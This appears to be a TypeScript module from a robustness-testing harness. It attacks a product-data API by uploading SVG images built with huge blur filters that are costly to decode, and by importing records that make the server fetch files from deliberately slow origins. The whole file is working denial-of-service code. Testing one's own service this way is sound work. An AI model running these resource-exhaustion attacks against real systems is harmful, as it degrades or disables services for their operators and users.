import { type Attack, startSlowOrigins, type Target } from './attacks.ts';

async function send(target: Target, method: string, path: string, body: unknown): Promise<void> {
  const headers = { authorization: `Bearer ${target.secret}`, 'content-type': 'application/json' };
  const answer = await fetch(`${target.baseUrl}${path}`, { method, headers, body: JSON.stringify(body) });
  if (!answer.ok) throw new Error(`${method} ${path}: ${answer.status} ${await answer.text()}`);
}

/** Uploads pictures that are slow to decode, and makes the server download files from very slow servers. */
export async function costlyAssets(target: Target): Promise<Attack> {
  const origins = await startSlowOrigins(3);
  const filters = '<filter id="f"><feGaussianBlur stdDeviation="90"/></filter>';
  const shapes = '<rect width="5000" height="5000" filter="url(#f)"/>'.repeat(40);
  const pictures = Array.from({ length: 10 }, (_, index) => `slow${index}.svg`);
  const urls = origins.urls.flatMap((url) => Array.from({ length: 40 }, (_, index) => `${url}/${index}`));
  const picture = {
    id: 'picture',
    name: 'Picture',
    compositeAttribute: null,
    type: { id: 'asset', multiValue: false },
  };
  await send(target, 'PUT', '/api/datastandards/v1/datastandards/attributes', [picture]);
  const products = [...pictures, ...urls].map((value, index) => ({ __ID: `asset${index}`, picture: value }));
  await send(target, 'POST', '/api/import/v1/feeds/master', { products });
  for (const name of pictures) {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="6000" height="6000"><!--${name}-->${filters}${shapes}</svg>`;
    const form = new FormData();
    form.set('file', new Blob([svg], { type: 'image/svg+xml' }), name);
    const url = `${target.baseUrl}/api/asset/v1/assets/upload?assetId=${name}`;
    await fetch(url, { method: 'POST', headers: { authorization: `Bearer ${target.secret}` }, body: form });
  }
  return origins;
}
